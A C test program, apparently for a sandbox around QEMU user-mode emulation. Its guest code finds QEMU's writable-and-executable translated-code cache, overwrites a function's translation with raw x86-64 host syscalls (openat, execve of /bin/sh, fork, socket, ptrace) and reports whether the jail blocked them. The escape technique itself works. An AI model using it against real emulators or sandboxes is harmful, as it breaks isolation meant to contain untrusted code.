/* Guest code that overwrites the code QEMU has made with instructions of the host: what a wild
 * store can do. escape NUMBER [close]: makes one system call of the host from there and ends with 0
 * where it got through, 255 where it was refused. With a second argument the jail is closed before.
 */
#define _GNU_SOURCE
#include "region.h"

#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static uint8_t code[256];
static unsigned size;
static const char path[] = PLACE "/made";
static const char *const shell[] = {"/bin/sh", "-c", "echo > " PLACE "/made; exit 7", NULL};
static const char *const nothing[] = {NULL};

static void bytes(const char *of, unsigned n) {
    memcpy(code + size, of, n);
    size += n;
}

static void word(uint64_t value) {
    memcpy(code + size, &value, sizeof value);
    size += sizeof value;
}

static void load(const char *prefix, uint64_t value) {
    bytes(prefix, 2);
    word(value);
}

static void call(uint64_t number, uint64_t a, uint64_t b, uint64_t c, uint64_t d) {
    load("\x48\xb8", number);
    load("\x48\xbf", a);
    load("\x48\xbe", b);
    load("\x48\xba", c);
    load("\x49\xba", d);
    bytes("\x0f\x05", 2);
}

/* Where QEMU keeps the code it makes: the one region of its own that can be written and executed.
 */
static uint8_t *made_code(void) {
    char line[512];
    unsigned long begin = 0;
    FILE *maps = fopen("/proc/thread-self/maps", "r"); /* not /proc/self, which QEMU makes up */
    while (maps && fgets(line, sizeof line, maps))
        if (strstr(line, " rwxp ") && sscanf(line, "%lx", &begin) == 1)
            break;
    return (uint8_t *)begin;
}

/* QEMU's code for this function holds a constant to be found by, last in an instruction. */
__attribute__((noinline)) static void victim(void) {
#ifdef __riscv
    __asm__ volatile("lui t0, 0x5a3c7" ::: "t0");
#else
    __asm__ volatile("movz x9, #0x5a3c, lsl #16" ::: "x9");
#endif
}

#ifdef __riscv
static volatile uint32_t inverted = ~0x5a3c7000u; /* nowhere in the code that looks for it */
#else
static volatile uint32_t inverted = ~0x5a3c0000u;
#endif

int main(int argc, char **argv) {
    uint8_t *at = made_code();
    if (!at || argc < 2)
        return 99;
    switch (atoi(argv[1])) {
    case 0: /* openat, to write a new file */
        call(257, (uint64_t)-100, (uint64_t)path, 0101, 0600);
        break;
    case 1: /* execve */
        call(59, (uint64_t)shell[0], (uint64_t)shell, (uint64_t)nothing, 0);
        break;
    case 2: /* fork */
        call(57, 0, 0, 0, 0);
        break;
    case 3: /* socket */
        call(41, 2, 1, 0, 0);
        break;
    default: /* ptrace: be traced */
        call(101, 0, 0, 0, 0);
    }
    bytes("\x48\x89\xc7\x48\xc1\xff\x3f", 7); /* mov rdi, rax; sar rdi, 63 */
    load("\x48\xb8", 231);                    /* exit_group */
    bytes("\x0f\x05", 2);
    victim();
    if (argc > 2)
        TENSOROP_JAIL();
    uint32_t wanted = ~inverted, found = 0;
    for (unsigned i = 0; i < 1 << 22; i++) {
        memcpy(&found, at + i, sizeof found);
        if (found == wanted) {
            memcpy(at + i + sizeof found, code, size);
            victim();
        }
    }
    return 98;
}
